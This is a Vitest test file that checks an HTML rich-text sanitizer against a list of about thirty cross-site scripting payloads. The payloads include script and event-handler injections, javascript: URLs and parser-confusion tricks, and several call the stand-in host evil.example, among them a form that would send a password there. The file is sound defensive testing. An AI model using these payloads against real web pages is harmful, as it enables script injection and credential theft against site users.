import { expect, test } from "vitest";
import { cleanRichText } from "./rich-text.ts";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></ScRiPt>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><circle/></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src=javascript:alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<p onclick=alert(1)>x</p>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<p class=admin id=root data-x=1>x</p>",
  "<style>*{background:url(//evil.example)}</style>",
  "<link rel=stylesheet href=//evil.example>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example>",
  "<form action=//evil.example><input name=password></form>",
  "<textarea><script>alert(1)</script></textarea>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<title><img src=x onerror=alert(1)></title>",
  "<video><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  "<b <script>alert(1)</script>",
  "<<script>alert(1)//<</script>",
];

test.each(PAYLOADS)("%s becomes harmless", (payload) => {
  const clean = cleanRichText(`before ${payload} after`);
  expect(clean).not.toMatch(/<(?!\/?(p|br|strong|b|em|i|u|s|ul|ol|li|a|blockquote|h3|h4|code)\b)/i);
  expect(clean).not.toMatch(/<[^>]*\s(on\w+|style|class|id|src|data-\w+)\s*=/i);
  expect(clean).not.toMatch(/href="(?!https?:\/\/|mailto:)/i);
  expect(clean).toContain("before");
});

test("allowed markup stays, and a link gives nothing away", () => {
  expect(cleanRichText("<p>Insulin <strong>and</strong> feet</p><ul><li>one</li></ul>")).toBe(
    "<p>Insulin <strong>and</strong> feet</p><ul><li>one</li></ul>",
  );
  expect(cleanRichText('<a href="https://who.int" onclick="x">WHO</a>')).toBe(
    '<a href="https://who.int" rel="noopener nofollow ugc" target="_blank">WHO</a>',
  );
});

test("cleaning twice changes nothing more", () => {
  for (const payload of PAYLOADS) {
    const once = cleanRichText(payload);
    expect(cleanRichText(once)).toBe(once);
  }
});

test("empty paragraphs at both ends go, however many there are, and those within stay", () => {
  const empty = "<p></p><p>&nbsp; <br></p> ".repeat(600);
  const clean = cleanRichText(`${empty}<p>a</p>${empty}<p>b</p>${empty}`);
  expect(clean).toMatch(/^<p>a<\/p><p><\/p>/);
  expect(clean).toMatch(/<\/p> <p>b<\/p>$/);
  expect(cleanRichText(empty)).toBe("");
});
